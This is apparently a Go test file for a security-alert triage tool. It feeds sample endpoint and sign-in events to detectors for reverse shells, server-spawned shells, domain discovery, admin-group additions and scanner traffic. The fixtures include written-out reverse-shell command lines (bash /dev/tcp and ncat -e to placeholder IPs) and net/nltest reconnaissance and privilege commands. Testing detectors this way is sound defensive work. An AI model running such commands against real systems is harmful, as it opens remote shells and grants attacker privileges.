package triage

import "testing"

func TestEndpointBehaviourReadsTheWholeProcessTree(t *testing.T) {
	for _, tc := range []struct {
		name        string
		raw         map[string]any
		reverse     bool
		serverShell bool
		discovery   int
		remote      string
	}{
		{"dev tcp from a jvm", map[string]any{"process_name": "bash", "parent_name": "java", "process_cmdline": "/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}, true, true, 0, ""},
		{"ncat hands over a shell", map[string]any{"FileName": "ncat", "ProcessCommandLine": "ncat 198.51.100.7 9001 -e /bin/bash"}, true, false, 0, ""},
		{"sensor names it", map[string]any{"type": "Execution:Runtime/ReverseShell", "process": map[string]any{"name": "bash"}}, true, false, 0, ""},
		{"remote tool then discovery", map[string]any{"processes": []any{
			map[string]any{"name": "ScreenConnect.ClientService.exe"},
			map[string]any{"name": "cmd.exe", "cmdline": `cmd.exe /c whoami /all & net group "domain admins" /domain & nltest /domain_trusts`},
		}}, false, false, 3, "screenconnect"},
		{"admin script without a session", map[string]any{"CommandLine": "powershell.exe Get-ADUser -Filter * | Export-Csv users.csv"}, false, false, 1, ""},
		{"ordinary bash", map[string]any{"process_name": "bash", "parent_name": "sshd", "process_cmdline": "bash -lc 'tail -f /var/log/app.log'"}, false, false, 0, ""},
		// Redis never runs a shell; PostgreSQL runs its archive_command through one.
		{"a shell under an exposed cache", map[string]any{"comm": "chattr", "parent_name": "sh", "grandparent_process": "/usr/bin/redis-server 0.0.0.0:6379"}, false, true, 0, ""},
		// Cortex XDR names the acting shell and the chain's root, no parent.
		{"a shell whose chain an iis worker started", map[string]any{"actor_process_image_name": "cmd.exe", "actor_process_command_line": `cmd.exe /c cd /d "C:\\inetpub\\owa\\auth"&whoami&nltest /dclist:corp.local&echo [S]`,
			"causality_actor_process_image_name": "w3wp.exe"}, false, true, 1, ""},
		{"a shell with its own parent under a web server", map[string]any{"actor_process_image_name": "cmd.exe", "parent_name": "backup.exe",
			"causality_actor_process_image_name": "w3wp.exe"}, false, false, 0, ""},
		{"a database archiving its log", map[string]any{"process_name": "cp", "parent_name": "sh", "grandparent_process": "postgres: archiver"}, false, false, 0, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := readEndpointFields(newDoc(tc.raw), Indicators{})
			b := f.Behaviour
			if b.ReverseShell != tc.reverse || b.ServerSpawnsShell != tc.serverShell || b.Discovery != tc.discovery || b.RemoteAccess != tc.remote {
				t.Errorf("behaviour %+v, want reverse %v server shell %v discovery %d remote %q", b, tc.reverse, tc.serverShell, tc.discovery, tc.remote)
			}
		})
	}
}

func TestOnlyTestCards(t *testing.T) {
	for _, tc := range []struct {
		text string
		want bool
	}{
		{"matched 4111111111111111 and 5555555555554444", true},
		{"values: 4242 4242 4242 4242, 3714 496353 98431", true},
		{"4111111111111111 and 4556737586899855", false}, // the second is a valid, non-test number
		{"order 1234567890123 shipped", false},           // fails the check digit, not a card
		{"no numbers at all", false},
	} {
		if got := onlyTestCards(tc.text); got != tc.want {
			t.Errorf("onlyTestCards(%q) = %v, want %v", tc.text, got, tc.want)
		}
	}
}

func TestWorkloadSignInCountsCountries(t *testing.T) {
	signIn := func(country string) map[string]any {
		return map[string]any{"servicePrincipalId": "sp-1", "clientCredentialType": "clientSecret", "location": map[string]any{"countryOrRegion": country}}
	}
	for _, tc := range []struct {
		name      string
		raw       map[string]any
		workload  bool
		countries int
		secret    bool
	}{
		{"one country", map[string]any{"value": []any{signIn("US"), signIn("US")}}, true, 1, true},
		{"two countries", map[string]any{"value": []any{signIn("US"), signIn("SG")}}, true, 2, true},
		{"a person", map[string]any{"userPrincipalName": "a@contoso.com", "location": map[string]any{"countryOrRegion": "US"}}, false, 0, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := newDoc(tc.raw)
			workload, countries := workloadSignIn(d)
			if workload != tc.workload || countries != tc.countries || workload && workloadSecret(d) != tc.secret {
				t.Errorf("workload %v countries %d secret %v, want %v %d %v", workload, countries, workloadSecret(d), tc.workload, tc.countries, tc.secret)
			}
		})
	}
}

func TestCommandRunsUserWritable(t *testing.T) {
	for _, tc := range []struct {
		line string
		want bool
	}{
		{`c:\users\a\appdata\local\temp\svch.exe -k run`, true},
		{`rundll32.exe c:\users\a\downloads\fontview.dll,dllregisterserver`, true},
		{`"c:\windows\system32\wscript.exe" "c:\users\a\appdata\local\temp\invoice.js"`, true},
		{`"c:\program files\7-zip\7z.exe" x "c:\users\a\downloads\photos.zip"`, false},
		{`"c:\program files\microsoft visual studio\msbuild\roslyn\csc.exe" @c:\users\a\appdata\local\temp\tmp1.rsp`, false},
		{`"c:\program files\app\app.exe" --config c:\programdata\app\app.json`, false},
	} {
		if got := commandRunsUserWritable(tc.line); got != tc.want {
			t.Errorf("commandRunsUserWritable(%q) = %v, want %v", tc.line, got, tc.want)
		}
	}
}

func TestSignInASNReadsEveryShape(t *testing.T) {
	for _, tc := range []struct {
		raw  map[string]any
		want string
	}{
		{map[string]any{"autonomousSystemNumber": float64(14061)}, "14061"},
		{map[string]any{"securityContext": map[string]any{"asNumber": float64(24940)}}, "24940"},
		{map[string]any{"networkInfo": map[string]any{"ipAsn": []any{float64(16276)}}}, "16276"},
		{map[string]any{"asn": "AS63949"}, "63949"},
		{map[string]any{"ip": "203.0.113.5"}, ""},
	} {
		if got := signInASN(newDoc(tc.raw)); got != tc.want {
			t.Errorf("signInASN(%v) = %q, want %q", tc.raw, got, tc.want)
		}
	}
}

func TestScannerSourceByAccountOrHostName(t *testing.T) {
	for _, tc := range []struct {
		raw  map[string]any
		want bool
	}{
		{map[string]any{"srcuser": `corp\svc_tenable`}, true},
		{map[string]any{"SrcHostname": "qualys-scanner-02.contoso.local"}, true},
		{map[string]any{"srcuser": `corp\j.smith`, "SrcHostname": "ws-0231"}, false},
		{map[string]any{"source_dynamic_address_group": "DAG-Vulnerability-Scanners", "source_ip": "10.20.250.10"}, true},
		{map[string]any{"source_device_host": "hal-nessus-01", "source_ip": "10.20.250.10"}, true},
		{map[string]any{"source_dynamic_address_group": "DAG-Finance-Workstations", "source_device_host": "fin-ws-12"}, false},
		// Falcon Identity names the source account and endpoint.
		{map[string]any{"source_account_name": "svc-tenable", "source_endpoint_host_name": "CV-APP07"}, true},
		{map[string]any{"source_account_name": "j.ortiz", "source_endpoint_host_name": "CV-NESSUS01"}, true},
		{map[string]any{"source_account_name": "j.ortiz", "source_endpoint_host_name": "CV-WS112"}, false},
	} {
		if got := scannerSource(newDoc(tc.raw)); got != tc.want {
			t.Errorf("scannerSource(%v) = %v, want %v", tc.raw, got, tc.want)
		}
	}
}

func TestRelayedSignInKeepsTheScriptedClientAndTheFactor(t *testing.T) {
	event := func(at, ua, typ string, debug map[string]any) map[string]any {
		return map[string]any{"eventType": typ, "published": at, "outcome": map[string]any{"result": "SUCCESS"},
			"actor":  map[string]any{"alternateId": "s.lund@contoso.com"},
			"client": map[string]any{"ipAddress": "185.220.70.33", "userAgent": map[string]any{"rawUserAgent": ua}}, "debugContext": map[string]any{"debugData": debug}}
	}
	raw := map[string]any{"events": []any{
		event("2025-10-21T08:14:02Z", "node-fetch/1.0", "user.session.start", map[string]any{"factor": "OKTA_VERIFY_PUSH", "factorResult": "SUCCESS"}),
		event("2025-10-21T08:14:09Z", "Mozilla/5.0 Chrome/129.0", "user.authentication.sso", map[string]any{}),
	}}
	f := readIdentity(signInView(raw), newDoc(raw))
	if !f.ScriptedClient || f.MFA != "passed" {
		t.Errorf("scripted client %v, MFA %q; want true, passed", f.ScriptedClient, f.MFA)
	}
}

func TestAdminGroupAddition(t *testing.T) {
	for _, tc := range []struct {
		name string
		raw  map[string]any
		want bool
	}{
		{"net localgroup add", map[string]any{"ProcessCommandLine": `net.exe localgroup administrators CONTOSO\t.hughes /add`}, true},
		{"domain admins through net1", map[string]any{"cmdline": `net1 group "Domain Admins" svc_x /add /domain`}, true},
		{"PowerShell cmdlet in an indicator", map[string]any{"indicators": []any{map[string]any{"description": "Add-LocalGroupMember -Group Administrators -Member helper"}}}, true},
		{"listing the group only", map[string]any{"ProcessCommandLine": "net localgroup administrators"}, false},
		{"removing a member", map[string]any{"ProcessCommandLine": `net localgroup administrators CONTOSO\old /delete`}, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := readEndpointFields(newDoc(tc.raw), Indicators{})
			if f.Behaviour.AdminGroupAdd != tc.want {
				t.Errorf("admin group add = %v, want %v", f.Behaviour.AdminGroupAdd, tc.want)
			}
		})
	}
}
